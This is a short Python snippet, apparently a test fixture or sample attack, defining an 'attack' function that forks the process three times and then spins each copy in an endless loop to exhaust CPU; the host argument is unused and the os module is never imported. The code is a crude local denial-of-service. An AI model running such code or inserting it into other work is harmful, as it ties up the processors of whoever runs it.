"""Loops without end in many processes."""


def attack(host):
    for _ in range(3):
        os.fork()
    while True:
        pass
